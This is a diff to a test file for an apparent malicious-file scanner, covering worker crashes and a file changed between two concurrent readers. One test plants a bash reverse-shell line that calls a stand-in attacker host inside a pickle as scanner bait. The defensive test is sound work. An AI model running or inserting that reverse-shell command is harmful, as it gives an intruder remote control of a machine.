@@ -113,7 +113,7 @@ def test_cells_end_with_the_scan(slow):
 
 # Losing cells --------------------------------------------------------------------------------------------------------
 
-FILES = 3000
+FILES = 6000
 
 
 @pytest.fixture(scope="module")
@@ -127,7 +127,8 @@ def many(tmp_path_factory):
 
 
 def statuses(report: dict) -> dict:
-    return {a["path"]: (a["status"], sorted(f["rule"] for f in a["findings"])) for a in report["artifacts"]}
+    return {a["path"]: (a["status"], sorted(f["rule"] for f in a["findings"]), [e["status"] for e in a["engines"]])
+            for a in report["artifacts"]}
 
 
 def test_killing_cells_loses_nothing(many, tmp_path):
@@ -140,14 +141,41 @@ def test_killing_cells_loses_nothing(many, tmp_path):
                 with contextlib.suppress(ProcessLookupError):
                     os.kill(cell, signal.SIGKILL)
                     killed += 1
-            time.sleep(0.01)
+            time.sleep(0.05)  # a file that is hit at its second try as well is lost, and says so
         process.communicate(timeout=120)
     got = json.loads(out.read_text())
     assert killed >= 5, "the scan was over before anything was killed"
-    wrong = {path: both for path, both in ((p, (statuses(got).get(p), s)) for p, s in statuses(wanted).items()) if both[0] != both[1]}
-    # On a busy machine a file may be hit at its second try as well; then it says so, and the scan is still whole.
-    assert len(wrong) <= killed // 2 and all(told == ("error", ["read.crashed"]) for told, _ in wrong.values()), list(wrong.items())[:5]
+    told = statuses(got)
+    wrong = {path: (told.get(path), status) for path, status in statuses(wanted).items() if told.get(path) != status}
+    assert not wrong, list(wrong.items())[:5]
     assert process.returncode == FOUND and len(got["artifacts"]) == FILES
+
+
+def has_open(pid, path):
+    with contextlib.suppress(OSError):
+        return any(os.readlink(entry) == str(path) for entry in pathlib.Path(f"/proc/{pid}/fd").iterdir())
+
+
+@pytest.mark.parametrize("which", [0, 1])
+def test_what_changes_between_two_readers_is_not_cleared(tmp_path, which):
+    """A large pickle is parsed in one cell and swept in another: the slower one must not speak of other bytes."""
+    attack = b"#!/bin/bash\nbash -i >& /dev/tcp/attacker.invalid/4444 0>&1\n"
+    content = bytes(pickle(4).binbytes(bytes(40_000_000)).binbytes(attack).stop())
+    path = tmp_path / "a.pkl"
+    path.write_bytes(content)
+    with running("scan", "--format", "json", "--jobs", "2", path) as process:
+        until(lambda: has_open(process.pid, path))
+        cell = sorted(children(process.pid))[which]
+        os.kill(cell, signal.SIGSTOP)
+        time.sleep(0.5)
+        with path.open("r+b") as file:
+            file.seek(content.index(attack))
+            file.write(b" " * len(attack))
+        with contextlib.suppress(ProcessLookupError):  # it had nothing left to do
+            os.kill(cell, signal.SIGCONT)
+        out, _ = process.communicate(timeout=60)
+    (artifact,) = json.loads(out)["artifacts"]
+    assert artifact["status"] in ("error", "unsafe"), artifact
 
 
 def test_stopped_cells_do_not_confuse_results(many):
